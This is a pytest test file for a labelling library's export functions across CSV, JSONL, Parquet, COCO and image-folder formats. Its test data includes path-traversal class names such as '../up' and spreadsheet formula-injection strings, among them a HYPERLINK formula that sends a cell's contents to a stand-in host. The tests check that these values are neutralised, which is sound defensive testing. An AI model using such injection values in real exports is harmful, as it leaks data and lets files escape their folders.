"""Labels as files."""

import json
import shutil
import subprocess
import sys

import numpy as np
import pandas as pd
import pytest
from PIL import Image

import nblabel as nb
from nblabel.log import exporting as export
from nblabel.log.exporting import export_labels
from nblabel.pool.pictures import MediaError
from nblabel.system.files import whole
from tests.samples import blobs

IDS = ["plain", 'quote"s and, commas', "línea\nnueva", "长靴 👢", "<b>", "=1+1"]
CLASSES = ["it's", 'a "bag", really']


@pytest.fixture
def labels():
    session = nb.Session(nb.Pool(embeddings=blobs(6), ids=IDS), CLASSES, annotator="ann")
    session.tell(range(6), [CLASSES[number % 2] for number in range(6)])
    return session.labels()


def test_csv_comes_back(labels, tmp_path):
    export_labels(labels, tmp_path / "labels.csv")
    back = pd.read_csv(tmp_path / "labels.csv", parse_dates=["time"], encoding="utf-8")
    assert back["id"].tolist() == IDS
    assert back.columns.tolist() == labels.columns.tolist()
    for name in labels.columns:
        assert back[name].tolist() == labels[name].tolist()


def test_jsonl_comes_back(labels, tmp_path):
    export_labels(labels, str(tmp_path / "labels.jsonl"))
    lines = (tmp_path / "labels.jsonl").read_text(encoding="utf-8").splitlines()
    rows = [json.loads(line) for line in lines]
    assert [row["id"] for row in rows] == IDS
    assert [row["label"] for row in rows] == labels["label"].tolist()
    assert pd.to_datetime([row["time"] for row in rows]).tolist() == labels["time"].tolist()
    assert "长靴" in lines[3]


@pytest.mark.parametrize("name", ["labels.csv", "labels.jsonl"])
def test_no_labels(labels, tmp_path, name):
    export_labels(labels[:0], tmp_path / name)
    text = (tmp_path / name).read_text()
    assert text.strip() == ("id,index,label,source,annotator,time" if name.endswith("csv") else "")


@pytest.mark.parametrize("name", ["labels.CSV", "labels.JsonL"])
def test_the_ending_in_any_case(labels, tmp_path, name):
    export_labels(labels, tmp_path / name)
    assert (tmp_path / name).stat().st_size > 0


@pytest.mark.parametrize("name", ["labels", "labels.xlsx", ".csv"])
def test_another_ending(labels, tmp_path, name):
    with pytest.raises(
        ValueError,
        match=r"cannot export to .*; use a name in .csv, .jsonl, .parquet, .json, or format= one",
    ):
        export_labels(labels, tmp_path / name)
    assert list(tmp_path.iterdir()) == []


def test_a_missing_folder(labels, tmp_path):
    with pytest.raises(FileNotFoundError, match="gone does not exist; make it"):
        export_labels(labels, tmp_path / "gone" / "labels.csv")


@pytest.mark.parametrize("name", ["labels.csv", "labels.jsonl"])
def test_a_folder_in_the_place_of_a_file(labels, tmp_path, name):
    (tmp_path / name).mkdir()
    with pytest.raises(IsADirectoryError, match="name a file in it"):
        export_labels(labels, tmp_path / name)
    assert [path.name for path in tmp_path.iterdir()] == [name]


def test_an_older_file_is_replaced_whole(labels, tmp_path):
    path = tmp_path / "labels.csv"
    path.write_text("old " * 10_000)
    export_labels(labels, path)
    assert "old" not in path.read_text(encoding="utf-8")
    assert list(tmp_path.iterdir()) == [path]


def test_a_failure_leaves_the_older_file_and_nothing_else(labels, tmp_path):
    path = tmp_path / "labels.csv"
    path.write_text("old")
    broken = labels.assign(label=pd.Series(["\udcff"] * 6, dtype=object))  # no UTF-8
    with pytest.raises(UnicodeEncodeError):
        export_labels(broken, path)
    assert path.read_text() == "old"
    assert list(tmp_path.iterdir()) == [path]


def test_others_may_read_it(labels, tmp_path):
    (tmp_path / "plain").touch()
    export_labels(labels, tmp_path / "labels.csv")
    modes = [(tmp_path / name).stat().st_mode for name in ("plain", "labels.csv")]
    assert modes[0] == modes[1]


# with details, and with pictures

NAMES = ["it's", "a/b", "A_B", "../up"]  # hostile as folders


def picture_session(pool):
    """Labels of all sources, one of each hostile class."""
    session = nb.Session(pool, NAMES, learner="knn", strategy="product", annotator="ann")
    session.tell([0, 1, 2], NAMES[:3])
    session.import_labels(pd.DataFrame({"id": [pool.ids[3]], "label": [NAMES[3]]}))
    session.accept([4, 5], ["a/b", "it's"])
    return session


@pytest.fixture
def arrays():
    pixels = np.random.default_rng(0).integers(0, 256, (8, 5, 7, 3), dtype=np.uint8)
    ids = ["0", "plain", "c", "d", "e/f", "..", "6", "7"]
    return picture_session(nb.Pool(pixels, embeddings=blobs(8), ids=ids))


@pytest.fixture
def files(tmp_path):
    photos = tmp_path / "photos"
    (photos / "sub").mkdir(parents=True)
    for number in range(8):
        name = f"{'sub/' if number % 2 else ''}{number}.{'jpg' if number % 2 else 'png'}"
        Image.new("L", (4 + number, 6), 30 * number).save(photos / name)
    shutil.copy(photos / "0.png", photos / "sub" / "0.png")
    return picture_session(nb.Pool.from_folder(photos, embeddings=blobs(9)))


@pytest.fixture(params=["arrays", "files"])
def session(request):
    return request.getfixturevalue(request.param)


def pixels_of(path):
    with Image.open(path) as image:
        return np.asarray(image)


def same_pixels(path, session, index):
    picture = session.pool.image(index)
    return (pixels_of(path).reshape(picture.shape) == picture).all()


def assert_details(table, session):
    known = session.labels(details=True)
    assert table["id"].astype(str).tolist() == known["id"].tolist()
    assert table["label"].tolist() == known["label"].tolist()
    assert table["source"].tolist() == ["human"] * 3 + ["import"] + ["model"] * 2
    assert table["annotator"].tolist() == ["ann"] * 6
    assert table["event"].tolist() == known["event"].tolist()
    assert pd.to_datetime(table["time"]).tolist() == known["time"].tolist()
    np.testing.assert_allclose(table["probability"], known["probability"])
    assert table["probability"].isna().tolist() == [True] * 4 + [False] * 2


@pytest.mark.parametrize("ending", ["csv", "jsonl", "parquet"])
def test_every_table_has_the_details(session, tmp_path, ending):
    path = tmp_path / f"labels.{ending}"
    if ending == "parquet":
        pytest.importorskip("pyarrow")
    session.export(path)
    read = {
        "csv": pd.read_csv,
        "jsonl": lambda path: pd.read_json(path, lines=True, dtype=False),
        "parquet": pd.read_parquet,
    }
    assert_details(read[ending](path), session)


def test_parquet_with_its_own_reader(session, tmp_path):
    parquet = pytest.importorskip("pyarrow.parquet")
    session.export(tmp_path / "labels.pq", format="parquet")
    table = parquet.read_table(tmp_path / "labels.pq")
    assert table.column("label").to_pylist() == session.labels()["label"].tolist()
    assert str(table.schema.field("time").type) == "timestamp[us, tz=UTC]"


def test_parquet_without_pyarrow(labels, tmp_path, monkeypatch):
    def refuse(*_, **__):
        raise ImportError("no pyarrow")

    monkeypatch.setattr(pd.DataFrame, "to_parquet", refuse)
    with pytest.raises(ImportError, match=r'pip install "nblabel\[parquet\]"'):
        export_labels(labels, tmp_path / "labels.parquet")
    assert list(tmp_path.iterdir()) == []


def test_coco(session, tmp_path):
    session.export(tmp_path / "labels.json")
    content = json.loads((tmp_path / "labels.json").read_text(encoding="utf-8"))
    assert set(content) == {"info", "images", "categories", "annotations"}
    categories = {one["id"]: one["name"] for one in content["categories"]}
    assert list(categories.values()) == NAMES
    images = {one["id"]: one for one in content["images"]}
    assert len(images) == len(content["annotations"]) == 6
    rows = []
    for one in content["annotations"]:
        image = images[one["image_id"]]
        picture = session.pool.image(one["index"])
        assert (image["height"], image["width"]) == picture.shape[:2]
        assert image["file_name"] == session.pool.name(one["index"])
        rows.append({**one, "id": one["item"], "label": categories[one["category_id"]]})
    assert_details(pd.DataFrame(rows), session)


def test_coco_with_the_reader_itself(session, tmp_path):
    reader = pytest.importorskip("pycocotools.coco", reason="pycocotools is not installed")
    session.export(tmp_path / "labels.json")
    coco = reader.COCO(str(tmp_path / "labels.json"))
    names = {one["id"]: one["name"] for one in coco.loadCats(coco.getCatIds())}
    found = {one["item"]: names[one["category_id"]] for one in coco.loadAnns(coco.getAnnIds())}
    table = session.labels()
    assert found == dict(zip(table["id"], table["label"], strict=True))
    assert len(coco.getImgIds()) == len(table)


def test_class_folders(session, tmp_path):
    session.export(tmp_path / "sorted", format="folders")
    table = pd.read_csv(tmp_path / "sorted" / "labels.csv")
    assert_details(table, session)
    assert sorted(path.name for path in (tmp_path / "sorted").iterdir()) == [
        *("A_B (2)", "_up", "a_b", "it_s", "labels.csv")
    ]
    homes = table.groupby("label")["file"].agg(lambda names: {name.split("/")[0] for name in names})
    assert homes.str.len().tolist() == [1] * 4
    found = [path for path in (tmp_path / "sorted").rglob("*") if path.is_file()]
    assert len(found) == 7
    for name, index in zip(table["file"], table["index"], strict=True):
        path = tmp_path / "sorted" / name
        assert path.resolve().is_relative_to((tmp_path / "sorted").resolve())
        assert same_pixels(path, session, index)


def test_names_that_no_file_system_takes(tmp_path):
    names = ["漢" * 100, "漢" * 101, "CON", "con.x", "a\nb", 'a,"b', "."]
    ids = ["漢" * 200, "aux", *map(str, range(5))]
    session = nb.Session(nb.Pool(np.zeros((7, 4, 4)), embeddings=blobs(7), ids=ids), names)
    session.tell(range(7), names)
    session.export(tmp_path / "sorted", format="folders")
    session.export(tmp_path / "hub", format="imagefolder")
    for path in tmp_path.rglob("*"):
        assert len(path.name.encode()) < 200
        assert path.name.split(".")[0].casefold() != "con"
    table = pd.read_csv(tmp_path / "sorted" / "labels.csv")
    assert table["label"].tolist() == names
    assert table["file"].map(lambda name: (tmp_path / "sorted" / name).is_file()).all()
    homes = table["file"].str.split("/").str[0]
    assert homes.str.casefold().nunique() == len(names)


def test_imagefolder_as_hugging_face_documents_it(session, tmp_path):
    session.export(tmp_path / "hub", format="imagefolder")
    train = tmp_path / "hub" / "train"
    lines = (train / "metadata.jsonl").read_text(encoding="utf-8").splitlines()
    table = pd.DataFrame([json.loads(line) for line in lines])
    assert_details(table, session)
    assert {path.name for path in train.iterdir()} == {*table["file_name"], "metadata.jsonl"}
    for name, index in zip(table["file_name"], table["index"], strict=True):
        assert same_pixels(train / name, session, index)


@pytest.mark.slow  # a large library
def test_imagefolder_with_the_reader_itself(session, tmp_path):
    datasets = pytest.importorskip("datasets")
    session.export(tmp_path / "hub", format="imagefolder")
    read = datasets.load_dataset(
        "imagefolder", data_dir=str(tmp_path / "hub"), cache_dir=str(tmp_path / "cache")
    )["train"]
    assert read["label"] == session.labels()["label"].tolist()


def test_files_are_copied_as_they_are(files, tmp_path):
    files.export(tmp_path / "sorted", format="folders")
    for row in pd.read_csv(tmp_path / "sorted" / "labels.csv").itertuples(index=False):
        copied = tmp_path / "sorted" / row.file
        assert copied.read_bytes() == (tmp_path / "photos" / row.id).read_bytes()


@pytest.mark.parametrize("kind", ["folders", "imagefolder"])
def test_a_folder_that_fails_leaves_nothing(files, tmp_path, kind):
    (tmp_path / "photos" / files.labels()["id"].iloc[-1]).unlink()
    with pytest.raises(MediaError, match="is gone, so nothing was exported; put it back"):
        files.export(tmp_path / "out", format=kind)
    assert [path.name for path in tmp_path.iterdir()] == ["photos"]


def test_an_interrupted_export_leaves_nothing(arrays, tmp_path, monkeypatch):
    (tmp_path / "out").mkdir()  # empty: it may be there
    writing = export._write_picture
    written = []

    def interrupted(pool, index, path):
        writing(pool, index, path)
        written.append(path)
        if len(written) == 3:
            raise KeyboardInterrupt

    monkeypatch.setattr(export, "_write_picture", interrupted)
    with pytest.raises(KeyboardInterrupt):
        arrays.export(tmp_path / "out", format="folders")
    assert list(tmp_path.iterdir()) == [tmp_path / "out"]
    assert list((tmp_path / "out").iterdir()) == []
    monkeypatch.setattr(export, "_write_picture", writing)
    arrays.export(tmp_path / "out", format="folders")
    assert list(tmp_path.iterdir()) == [tmp_path / "out"]


def test_a_folder_with_something_in_it_is_left_alone(arrays, tmp_path):
    (tmp_path / "mine.txt").write_text("mine")
    for path in (tmp_path, tmp_path / "mine.txt"):
        with pytest.raises(FileExistsError, match="is there already; remove it, or name another"):
            arrays.export(path, format="imagefolder")
    assert [path.name for path in tmp_path.iterdir()] == ["mine.txt"]


@pytest.mark.parametrize("kind", ["coco", "folders", "imagefolder"])
def test_formats_that_need_pictures(tmp_path, kind):
    session = nb.Session(nb.Pool(texts=["a", "b", "c", "d"]), CLASSES)
    session.tell(0, CLASSES[0])
    with pytest.raises(ValueError, match="holds images, and this pool has none; use 'csv'"):
        session.export(tmp_path / "out", format=kind)
    assert list(tmp_path.iterdir()) == []


def test_a_format_that_is_none(arrays, tmp_path):
    with pytest.raises(ValueError, match=r"as 'yolo'; use a name in .*imagefolder"):
        arrays.export(tmp_path / "labels.csv", format="yolo")


@pytest.mark.parametrize("kind", ["coco", "folders", "imagefolder", "parquet"])
def test_no_labels_in_every_format(arrays, tmp_path, kind):
    if kind == "parquet":
        pytest.importorskip("pyarrow")
    fresh = nb.Session(arrays.pool, NAMES)
    fresh.export(tmp_path / "out", format=kind)
    assert (tmp_path / "out").exists()


# what the labels are about


def test_texts_stand_beside_their_labels(tmp_path):
    texts = ["great film", "what a bore, really", "so so"]
    session = nb.Session(nb.Pool(texts=texts), ["p", "n"])
    session.tell([0, 1], ["p", "n"])
    session.export(tmp_path / "labels.csv")
    back = pd.read_csv(tmp_path / "labels.csv")
    assert back["text"].tolist() == ["great film", "what a bore, really"]
    session.export(tmp_path / "labels.csv", columns=["text", "label"])
    assert (tmp_path / "labels.csv").read_text("utf-8").splitlines()[:2] == [
        "text,label",
        "great film,p",
    ]


@pytest.mark.parametrize("ending", ["csv", "jsonl", "parquet"])
def test_rows_stand_beside_their_labels(tmp_path, ending):
    if ending == "parquet":
        pytest.importorskip("pyarrow")
    rows = pd.DataFrame(
        {
            "label": [10, 20, 30],
            "mixed": [1, "a", None],
            "day": pd.date_range("2024-01-01", periods=3),
            "kind": pd.Categorical(["x", "y", "x"]),
            "yes": [True, False, True],
        }
    )
    session = nb.Session(nb.Pool(table=rows, embeddings=blobs(3)), ["p", "n"])
    session.tell([2, 0], ["p", "n"])
    path = tmp_path / f"labels.{ending}"
    session.export(path)
    read = {
        "csv": pd.read_csv,
        "jsonl": lambda path: pd.read_json(path, lines=True, dtype=False),
        "parquet": pd.read_parquet,
    }
    back = read[ending](path)
    assert back.columns.tolist()[9:] == ["table.label", "mixed", "day", "kind", "yes"]
    assert back["label"].tolist() == ["p", "n"]
    assert back["table.label"].tolist() == [30, 10]
    assert back["kind"].tolist() == ["x", "x"]
    assert [str(day)[:10] for day in back["day"]] == ["2024-01-03", "2024-01-01"]


def test_files_stand_beside_their_labels(files, tmp_path):
    files.export(tmp_path / "labels.csv")
    back = pd.read_csv(tmp_path / "labels.csv")
    paths = [str(files.pool.media.paths[index]) for index in back["index"]]
    assert back["file"].tolist() == paths


@pytest.mark.parametrize(
    ("options", "message"),
    [
        ({"columns": ["id", "Label"]}, r"no column 'Label'; did you mean 'label'\?"),
        ({"columns": ["id", "weight"]}, "no column 'weight'; there are id, index"),
        ({"columns": "id"}, "single text 'id'; pass a list"),
        ({"separator": "|"}, "separator is '|'; choose one of"),
        ({"format": "folders", "columns": ["id"]}, "columns= chooses those of a table"),
    ],
)
def test_choices_that_cannot_be(arrays, tmp_path, options, message):
    with pytest.raises(ValueError, match=message):
        arrays.export(tmp_path / "labels.csv", **options)
    assert list(tmp_path.iterdir()) == []


def test_predictions_of_the_rest(arrays, tmp_path):
    arrays.flag(6)
    arrays.export(tmp_path / "labels.csv", predictions=True)
    back = pd.read_csv(tmp_path / "labels.csv")
    rest = back[back["source"] == "prediction"]
    assert rest["index"].tolist() == [7]  # the flagged one is set aside
    assert rest["label"].tolist() == [arrays.predict()[7]]
    assert rest["probability"].tolist() == [pytest.approx(arrays.predict_proba()[7].max())]
    assert rest[["annotator", "time", "event"]].isna().all(axis=None)
    assert len(back) == 7
    fresh = nb.Session(arrays.pool, NAMES)
    report = fresh.import_labels(tmp_path / "labels.csv")
    assert (report.n_imported, report.n_by_model) == (4, 3)  # no prediction becomes an answer
    with pytest.raises(ValueError, match="nothing was learned yet.*label some items"):
        nb.Session(arrays.pool, NAMES).export(tmp_path / "none.csv", predictions=True)


def test_predictions_in_pictures(arrays, tmp_path):
    arrays.export(tmp_path / "labels.json", predictions=True)
    told = json.loads((tmp_path / "labels.json").read_text())["annotations"]
    assert [one["source"] for one in told].count("prediction") == 2


LIVE = [
    '=HYPERLINK("http://x/?"&A2).jpg',
    "+1",
    "-5",
    "@x",
    "\t=1",
    " =1",
    "'=1",
    "＝1",
    "plain",
    "it's",
    "'quoted'",
    "007",
]


@pytest.mark.parametrize("separator", [",", ";", "\t"])
def test_nothing_in_a_spreadsheet_is_live_and_it_is_read_back(tmp_path, separator):
    classes = ["café", "=1+1", "-"]
    session = nb.Session(nb.Pool(embeddings=blobs(len(LIVE)), ids=LIVE), classes, annotator="=me()")
    session.tell(range(len(LIVE)), [classes[number % 3] for number in range(len(LIVE))])
    path = tmp_path / "labels.csv"
    session.export(path, "excel-csv", separator=separator)
    assert path.read_bytes().startswith(b"\xef\xbb\xbfid")
    back = pd.read_csv(path, sep=separator, dtype=str, keep_default_na=False)
    texts = back.to_numpy().ravel().tolist()
    assert not [text for text in texts if text.lstrip()[:1] in tuple("=+-@＝")]
    fresh = nb.Session(session.pool, classes)
    assert fresh.import_labels(path).n_imported == len(LIVE)
    assert (fresh.y == session.y).all()


def test_names_of_columns_are_not_live_either(tmp_path):
    rows = pd.DataFrame({"=cmd()": ["=1", None], "n": [-1.5, 2]})
    session = nb.Session(nb.Pool(table=rows, embeddings=blobs(2)), ["a", "b"])
    session.tell([0, 1], ["a", "b"])
    session.export(tmp_path / "labels.csv", "excel-csv", columns=["id", "label", "=cmd()", "n"])
    text = (tmp_path / "labels.csv").read_text("utf-8-sig")
    assert text.splitlines() == ["id,label,'=cmd(),n", "0,a,'=1,-1.5", "1,b,,2.0"]


@pytest.mark.parametrize(("orientation", "size"), [(1, (60, 40)), (3, (60, 40)), (6, (40, 60))])
def test_sizes_are_those_that_are_shown(tmp_path, orientation, size):
    exif = Image.Exif()
    exif[0x0112] = orientation
    (tmp_path / "photos").mkdir()
    Image.new("RGB", (60, 40)).save(tmp_path / "photos" / "a.jpg", exif=exif)
    pool = nb.Pool.from_folder(tmp_path / "photos", embeddings=blobs(1))
    session = nb.Session(pool, ["a", "b"])
    session.tell(0, "a")
    session.export(tmp_path / "labels.json")
    image = json.loads((tmp_path / "labels.json").read_text())["images"][0]
    assert (image["width"], image["height"]) == size == session.pool.image(0).shape[1::-1]


# what a killed process left


KILLED = """
import os, sys
from pathlib import Path
from nblabel.system.files import whole
target = Path(sys.argv[1])
with whole(target) as part:
    part.mkdir() if len(sys.argv) > 2 else part.touch()
    os._exit(9)
"""


@pytest.mark.parametrize("folder", [False, True])
def test_what_a_killed_export_left_is_cleared_by_the_next(arrays, tmp_path, folder):
    target = tmp_path / ("out" if folder else "labels.csv")
    arguments = [sys.executable, "-c", KILLED, str(target), *(["folder"] if folder else [])]
    assert subprocess.run(arguments, check=False).returncode == 9
    (left,) = tmp_path.iterdir()
    assert left.name.startswith(".")  # not seen
    arrays.export(tmp_path / "other.csv")
    assert left.exists()  # of another target
    with whole(tmp_path / "labels.csv") as part:  # one that this process is writing meanwhile
        part.touch()
        arrays.export(target, format="folders" if folder else None)
        assert part.exists()
        assert not left.exists()
    assert {path.name for path in tmp_path.iterdir()} == {"other.csv", "labels.csv", target.name}
